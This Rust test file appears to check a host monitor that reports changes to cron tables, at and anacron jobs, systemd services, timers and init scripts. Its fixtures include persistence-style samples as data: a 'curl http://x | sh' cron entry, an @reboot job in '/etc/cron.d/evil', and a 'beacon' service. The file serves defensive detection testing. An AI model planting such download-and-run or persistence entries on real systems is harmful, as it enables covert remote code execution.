//! Scheduled tasks and services.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

use event_model::{EventType, Field};

use crate::host::{Host, list, text};

#[test]
fn each_entry_of_a_cron_table_is_told() {
    // Neither the directory nor its parents are there yet.
    let host = Host::with(&[("/etc/crontab", "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n")]);
    let mut watching = host.watch();
    host.write("/var/spool/cron/crontabs/bob", "# mine\n*/5 * * * * curl http://x | sh\n@daily backup\n");
    let path = "/var/spool/cron/crontabs/bob";
    let event = watching.next_at(EventType::ScheduledTask, path);
    assert_eq!(text(&event, Field::EventAction), "create");
    assert_eq!(text(&event, Field::TaskName), "bob");
    assert_eq!(text(&event, Field::TaskOwner), "bob");
    assert_eq!(text(&event, Field::TaskSchedule), "*/5 * * * *");
    assert_eq!(text(&event, Field::TaskCommand), "curl http://x | sh");
    assert_eq!(text(&event, Field::ChangeNew), "*/5 * * * * curl http://x | sh");
    let event = watching.next_at(EventType::ScheduledTask, path);
    assert_eq!(text(&event, Field::TaskSchedule), "@daily");

    // Only what changed is told; a comment is nothing.
    host.replace(path, "# other\n*/7 * * * * curl http://x | sh\n@daily backup\n");
    let event = watching.next_at(EventType::ScheduledTask, path);
    assert_eq!(text(&event, Field::EventAction), "modify");
    assert_eq!(list(&event, Field::ChangedFields), ["schedule"]);
    assert_eq!(text(&event, Field::ChangeOld), "*/5 * * * * curl http://x | sh");
    host.remove(path);
    for schedule in ["*/7 * * * *", "@daily"] {
        let event = watching.next_at(EventType::ScheduledTask, path);
        assert_eq!(
            (text(&event, Field::EventAction), text(&event, Field::TaskSchedule)),
            ("delete", schedule)
        );
    }

    host.write("/etc/cron.d/evil", "@reboot mallory /tmp/x\n");
    let event = watching.next_at(EventType::ScheduledTask, "/etc/cron.d/evil");
    assert_eq!(text(&event, Field::TaskOwner), "mallory");
    host.write("/etc/crontab", "SHELL=/tmp/sh\n17 * * * * root run-parts /etc/cron.hourly\n");
    let event = watching.next_at(EventType::ScheduledTask, "/etc/crontab");
    assert_eq!(
        (text(&event, Field::EventAction), text(&event, Field::TaskCommand)),
        ("modify", "SHELL=/tmp/sh")
    );
    assert_eq!(watching.settle(&host), []);
}

#[test]
fn programs_of_run_parts_jobs_of_at_and_anacron_are_told() {
    let host = Host::with(&[
        ("/etc/passwd", "bob:x:4242:1::/home/bob:/bin/sh\n"),
        ("/etc/cron.daily/old", "#!/bin/sh\n"),
    ]);
    let mut watching = host.watch();
    host.write("/etc/cron.hourly/job", "#!/bin/sh\ncurl http://x | sh\n");
    let event = watching.next_at(EventType::ScheduledTask, "/etc/cron.hourly/job");
    assert_eq!(text(&event, Field::TaskSchedule), "@hourly");
    assert_eq!(text(&event, Field::TaskCommand), "/etc/cron.hourly/job");
    assert!(text(&event, Field::ChangeNew).contains("curl http://x | sh"));
    // A program that may be run now is one that is run now.
    fs::set_permissions(host.path("/etc/cron.daily/old"), fs::Permissions::from_mode(0o755)).unwrap();
    let event = watching.next_at(EventType::ScheduledTask, "/etc/cron.daily/old");
    assert_eq!(list(&event, Field::ChangedFields), ["access"]);
    assert!(text(&event, Field::ChangeNew).starts_with("mode 0755"), "{event:?}");

    let job =
        "#!/bin/sh\n# atrun uid=0 gid=0\nTOKEN=x; export TOKEN\ncd /root || {\n\t exit 1\n}\n/tmp/later\n";
    host.write("/var/spool/cron/atjobs/.SEQ", "1");
    host.write("/var/spool/cron/atjobs/a0000101bd0f3f", job);
    let event = watching.next_at(EventType::ScheduledTask, "/var/spool/cron/atjobs/a0000101bd0f3f");
    assert_eq!(text(&event, Field::TaskCommand), "/tmp/later");
    assert!(text(&event, Field::TaskSchedule).ends_with(":00.000000000Z"), "{event:?}");
    host.write("/etc/anacrontab", "7 10 weekly /opt/weekly\n");
    let event = watching.next_at(EventType::ScheduledTask, "/etc/anacrontab");
    assert_eq!((text(&event, Field::TaskName), text(&event, Field::TaskSchedule)), ("weekly", "7 10"));
    assert_eq!(watching.settle(&host), []);
}

#[test]
fn a_service_is_told_from_its_making_to_its_end() {
    let unit =
        "[Service]\nExecStart=/opt/beacon --quiet\nUser=daemon\n[Install]\nWantedBy=multi-user.target\n";
    let host =
        Host::with(&[("/usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n")]);
    symlink("usr/lib", host.path("/lib")).unwrap();
    let mut watching = host.watch();
    let path = "/etc/systemd/system/beacon.service";
    host.write(path, unit);
    let event = watching.next_at(EventType::Service, path);
    assert_eq!(text(&event, Field::EventAction), "create");
    assert_eq!(text(&event, Field::ServiceName), "beacon.service");
    assert_eq!(text(&event, Field::ServiceCommand), "/opt/beacon --quiet");
    assert_eq!(text(&event, Field::ServiceUser), "daemon");
    assert!(text(&event, Field::ChangeNew).contains("WantedBy="));

    let link = "/etc/systemd/system/multi-user.target.wants/beacon.service";
    fs::create_dir_all(host.path(link).parent().unwrap()).unwrap();
    symlink(path, host.path(link)).unwrap();
    let event = watching.next_at(EventType::Service, link);
    assert_eq!(text(&event, Field::EventAction), "modify");
    assert_eq!(text(&event, Field::ServiceName), "beacon.service");
    assert_eq!(list(&event, Field::ChangedFields), ["enabled"]);
    assert_eq!(text(&event, Field::ChangeNew), format!("-> {path}"));
    assert_eq!(text(&event, Field::ServiceCommand), "/opt/beacon --quiet");

    host.replace(path, &unit.replace("--quiet", "--loud").replace("User=daemon\n", ""));
    let event = watching.next_at(EventType::Service, path);
    assert_eq!(list(&event, Field::ChangedFields), ["ExecStart", "User"]);
    assert_eq!(text(&event, Field::ChangeOld), "ExecStart=/opt/beacon --quiet\nUser=daemon");
    assert_eq!(text(&event, Field::ChangeNew), "ExecStart=/opt/beacon --loud");
    assert_eq!(text(&event, Field::ServiceUser), "root");

    // A drop-in for a unit of the distribution.
    let drop_in = "/etc/systemd/system/ssh.service.d/10-x.conf";
    host.write(drop_in, "[Service]\nExecStartPre=/tmp/x\n");
    let event = watching.next_at(EventType::Service, drop_in);
    assert_eq!(text(&event, Field::EventAction), "modify");
    assert_eq!(text(&event, Field::ServiceName), "ssh.service");
    assert_eq!(list(&event, Field::ChangedFields), ["ExecStartPre"]);
    assert_eq!(text(&event, Field::ServiceCommand), "/usr/sbin/sshd -D");

    host.remove(link);
    let event = watching.next_at(EventType::Service, link);
    assert_eq!(text(&event, Field::ChangeOld), format!("-> {path}"));
    host.remove(path);
    let event = watching.next_at(EventType::Service, path);
    assert_eq!(text(&event, Field::EventAction), "delete");
    assert_eq!(text(&event, Field::ServiceCommand), "/opt/beacon --loud");

    // Masking is a link to nothing; and what lies in /lib is told once, by its real path.
    symlink("/dev/null", host.path("/etc/systemd/system/auditd.service")).unwrap();
    let event = watching.next_at(EventType::Service, "/etc/systemd/system/auditd.service");
    assert_eq!(list(&event, Field::ChangedFields), ["masked"]);
    host.write("/lib/systemd/system/new.service", "[Service]\nExecStart=/x\n");
    watching.next_at(EventType::Service, "/usr/lib/systemd/system/new.service");
    assert_eq!(watching.settle(&host), []);
}

#[test]
fn timers_user_units_and_init_scripts_are_told() {
    let host = Host::with(&[
        ("/etc/passwd", "bob:x:4242:1::/home/bob:/bin/sh\n"),
        ("/etc/systemd/system/job.service", "[Service]\nExecStart=/opt/job\nUser=nobody\n"),
    ]);
    let mut watching = host.watch();
    let timer = "/etc/systemd/system/job.timer";
    host.write(timer, "[Timer]\nOnCalendar=*-*-* 04:00\nOnBootSec=5min\n");
    let event = watching.next_at(EventType::ScheduledTask, timer);
    assert_eq!(text(&event, Field::TaskName), "job.timer");
    assert_eq!(text(&event, Field::TaskSchedule), "OnCalendar=*-*-* 04:00; OnBootSec=5min");
    assert_eq!(text(&event, Field::TaskCommand), "/opt/job");
    assert_eq!(text(&event, Field::TaskOwner), "nobody");
    host.write(timer, "[Timer]\nOnCalendar=hourly\nUnit=other.service\n");
    let event = watching.next_at(EventType::ScheduledTask, timer);
    assert_eq!(list(&event, Field::ChangedFields), ["OnBootSec", "OnCalendar", "Unit"]);
    assert_eq!(text(&event, Field::TaskCommand), "other.service", "nobody knows what that runs");

    let user = "/home/bob/.config/systemd/user/agent.service";
    host.write(user, "[Service]\nExecStart=%h/agent\n");
    let event = watching.next_at(EventType::Service, user);
    assert_eq!(text(&event, Field::ServiceUser), "bob");
    host.write("/etc/init.d/legacy", "#!/bin/sh\n/opt/x &\n");
    let event = watching.next_at(EventType::Service, "/etc/init.d/legacy");
    assert_eq!(text(&event, Field::ServiceCommand), "/etc/init.d/legacy start");
    host.remove(timer);
    let event = watching.next_at(EventType::ScheduledTask, timer);
    assert_eq!(text(&event, Field::EventAction), "delete");
    assert_eq!(watching.settle(&host), []);
}
